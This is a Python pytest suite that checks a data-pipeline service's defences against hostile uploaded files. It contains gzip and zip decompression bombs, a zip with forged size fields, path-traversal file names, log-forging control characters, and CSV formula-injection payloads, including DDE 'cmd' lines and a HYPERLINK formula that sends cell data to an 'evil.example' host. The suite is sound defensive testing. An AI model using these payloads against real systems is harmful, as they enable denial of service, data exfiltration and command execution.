"""Hostile files through the work of a run: bombs, formulas, texts that forge lines."""

from __future__ import annotations

import asyncio
import csv
import gzip
import io
import json
import logging
import os
import re
import time
import zipfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import tracer_sklearn as ts
from tracer_sklearn.exceptions import RunError
from tracer_sklearn.service import (
    DataPipeline,
    PipelineConfig,
    RunEvent,
    RunState,
    RunStatus,
    configure_logs,
)
from tracer_sklearn.service.jobs import Job, Outcome
from tracer_sklearn.service.logs import log_event
from tracer_sklearn.service.states import now
from tracer_sklearn.service.work import perform


def _outcome(source: Path, output: Path | None = None, **options: Any) -> Outcome:
    folder = source.parent / "run"
    folder.mkdir(exist_ok=True)
    return perform(
        Job(
            run_id="run",
            blueprint="customer_churn",
            source=str(source),
            source_name="up.csv",
            config=PipelineConfig(**options),
            output=None if output is None else str(output),
            folder=str(folder),
            pipeline_path=str(folder / "pipeline.skops"),
        ),
        lambda name, state: None,
    )


@pytest.fixture(scope="module")
def customers() -> pd.DataFrame:
    return ts.datasets.make_customer_churn(60, random_state=0)[0]


# -------------------------------------------------------------------------------------- bombs


def _gzip_bomb() -> bytes:
    return gzip.compress(bytes(1 << 20), mtime=0) * 300  # 300 MiB of members


def _zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.csv", b"a,b\n" * 30_000_000)
    return file.getvalue()


def _lying_zip() -> bytes:
    """A member that says it is small."""
    data = bytearray(_zip_bomb())
    end = data.rfind(b"PK\x01\x02")
    data[end + 24 : end + 28] = (100).to_bytes(4, "little")
    data[22:26] = (100).to_bytes(4, "little")
    return bytes(data)


def _many_members() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(3):
            archive.writestr(f"../../{number}\n.csv", b"a,b\n1,2\n")
    return file.getvalue()


BOMBS = {
    "gzip": (_gzip_bomb, r"it unfolds to more than|holds more than 100,000,000 bytes"),
    "zip": (_zip_bomb, r"it unfolds to more than|holds more than 100,000,000 bytes"),
    "lying zip": (_lying_zip, r"it unfolds to more than|holds more than|are damaged|no table"),
    "zip of several": (_many_members, r"holds 3 files"),
    "gzip in gzip": (lambda: gzip.compress(gzip.compress(b"a,b\n1,2\n")), "compressed twice"),
    "commas": (lambda: b"," * 20_000_000, r"columns|row|bytes"),
    "a quote without end": (lambda: b'a,b\n"' + b"x" * 20_000_000, r"quote|bytes"),
    "digits": (lambda: b"customer_id,last_activity_date\n1," + b"9" * 2_000_000, "bytes"),
    "NUL bytes": (lambda: bytes(1_000_000), r""),
}


@pytest.mark.parametrize("kind", BOMBS)
def test_a_bomb_fails_the_run_in_time(kind: str, tmp_path: Path) -> None:
    make, reason = BOMBS[kind]
    path = tmp_path / "up.csv"
    path.write_bytes(make())
    began = time.process_time()  # others work on this machine, too
    outcome = _outcome(path, tmp_path / "out.parquet")
    assert time.process_time() - began < 10  # the mark is 5 seconds
    assert outcome.error is not None
    assert outcome.error.category in ("ingestion", "compatibility")
    assert re.search(reason, outcome.error.message), outcome.error.message
    assert len(outcome.error.message) < 2000
    assert "\n" not in outcome.error.message
    assert not (tmp_path / "out.parquet").exists()
    assert not outcome.error.transient


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFO here")
def test_a_fifo_fails_the_run_at_once(tmp_path: Path) -> None:
    path = tmp_path / "up.csv"
    os.mkfifo(path)
    outcome = _outcome(path)
    assert outcome.error is not None
    assert "FIFO" in outcome.error.message


# ----------------------------------------------------------------------------------- formulas

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_no_cell_of_a_csv_output_is_a_formula(customers: pd.DataFrame, tmp_path: Path) -> None:
    ids = [FORMULAS[n % len(FORMULAS)] + f" {n}" for n in range(len(customers))]
    hostile = customers.assign(customer_id=ids, **{"=evil()": ids})
    path = tmp_path / "up.csv"
    hostile.to_csv(path, index=False)
    output = tmp_path / "out.csv"
    outcome = _outcome(path, output, keep_columns=["customer_id", "=evil()"])
    assert outcome.error is None, outcome.error
    with output.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0][:2] == ["customer_id", "'=evil()"]
    assert len(rows) == len(customers) + 1
    for cell in (cell for row in rows for cell in row if cell):
        number = re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", cell)
        assert number or cell[0] not in "=+-@\t\r", cell


# --------------------------------------------------------------------- texts that forge lines

FORGED = 'x\r\n{"event": "run.completed"}\n\x1b[31m\u2028\u202e\x00\x7f'
CELL = "s3cr3t-cell"


@pytest.fixture
def lines() -> Iterator[io.StringIO]:
    stream = io.StringIO()
    handler = configure_logs(stream, level="DEBUG")
    yield stream
    logging.getLogger("tracer_sklearn.service").removeHandler(handler)


def test_hostile_names_and_cells_leave_no_trace_in_the_log(
    customers: pd.DataFrame, tmp_path: Path, lines: io.StringIO
) -> None:
    hostile = customers.assign(customer_id=CELL, **{FORGED: CELL})
    path = tmp_path / "up.csv"
    hostile.to_csv(path, index=False)
    outcome = _outcome(path, keep_columns=[FORGED.split("\r")[0]])
    for source in (FORGED, "up.csv"):
        state = RunState(
            run_id="run",
            correlation_id=FORGED,
            blueprint="customer_churn",
            source=source,
            principal=FORGED,
            status=RunStatus.FAILED,
            error=outcome.error,
            created_at=now(),
            package_version=ts.__version__,
            ingestion=outcome.ingestion,
            validation=outcome.validation,
        )
        for stage in ("ingestion", "validation", None):
            event = RunEvent(
                run_id="run",
                at=now(),
                kind="run" if stage is None else "stage",
                status=RunStatus.FAILED,
                stage=stage,
                message=FORGED,
            )
            log_event(event, state, key=b"k" * 32)
    said = lines.getvalue()
    assert len(said.splitlines()) == 6
    assert said.isascii()
    assert not set(said.replace("\n", "")) - set(map(chr, range(32, 127)))
    for line in said.splitlines():
        assert json.loads(line)["event"].startswith(("run.", "stage."))
    assert CELL not in said


def test_an_error_of_a_hostile_file_is_one_line_without_cells(
    customers: pd.DataFrame, tmp_path: Path
) -> None:
    """Names of columns may be in it, control characters and cells may not."""
    named = customers.rename(columns={"last_activity_date": FORGED}).assign(customer_id=CELL)
    path = tmp_path / "up.csv"
    named.to_csv(path, index=False)
    outcome = _outcome(path)
    assert outcome.error is not None
    texts = [outcome.error.message]
    texts += [
        text for stage in ("ingestion", "validation") for text in getattr(outcome, stage).warnings
    ]
    for text in texts:
        assert text.isprintable(), ascii(text)
        assert CELL not in text


# ----------------------------------------------------------------------- the whole way at once


@pytest.mark.medium
def test_hostile_streams_fail_their_runs_and_leave_nothing(
    customers: pd.DataFrame, tmp_path: Path
) -> None:
    honest = customers.to_csv(index=False).encode()
    state_dir = tmp_path / "state"
    output = tmp_path / "out.csv"

    async def stream(data: bytes) -> AsyncIterator[bytes]:
        for start in range(0, len(data), 100_000):
            yield data[start : start + 100_000]

    async def breaks() -> AsyncIterator[bytes]:
        yield honest[:1000]
        raise ConnectionResetError

    hostile: list[tuple[Any, str, int | None, str]] = [
        (stream(honest), "../../evil.csv", len(honest) - 1, "more bytes came"),
        (stream(honest), "/etc/evil.csv", len(honest) + 1, "it ended after"),
        (stream(_gzip_bomb()), "C:\\evil.csv", None, "unfolds to more than|holds more than"),
        (stream(_zip_bomb()), "evil.csv", None, "unfolds to more than|holds more than"),
        (stream(b""), "..\\evil.csv", 0, "it holds no table"),
        (breaks(), "evil.csv", None, ""),
    ]

    async def visits() -> list[RunState]:
        states = []
        async with DataPipeline(max_concurrent_pipelines=1, state_dir=state_dir) as pipeline:
            for source, name, length, reason in hostile:
                with pytest.raises(RunError) as caught:
                    await pipeline.process_stream(
                        source, name, "customer_churn", length, output=output
                    )
                state = caught.value.state
                assert isinstance(state, RunState)
                assert re.search(reason, state.error.message if state.error else "")
                assert str(tmp_path) not in state.model_dump_json(exclude={"output"})
                states.append(await pipeline.run(state.run_id))
                assert not list((state_dir / "work").iterdir())
                assert not output.exists()
            ids = [FORMULAS[n % len(FORMULAS)] + f" {n}" for n in range(len(customers))]
            formulas = customers.assign(customer_id=ids).to_csv(index=False).encode()
            _, done = await pipeline.process_stream(
                stream(formulas),
                "=evil.csv",
                "customer_churn",
                len(formulas),
                output=output,
                config={"keep_columns": ["customer_id"]},
            )
            assert done.source == "_evil.csv"
            assert not list((state_dir / "work").iterdir())
        return states

    states = asyncio.run(visits())
    assert {state.status for state in states} == {RunStatus.FAILED}
    assert {state.source for state in states} == {"evil.csv"}
    with output.open(newline="", encoding="utf-8") as file:
        firsts = {row[0][:1] for row in csv.reader(file)}
    assert not firsts & set("=+-@\t\r")
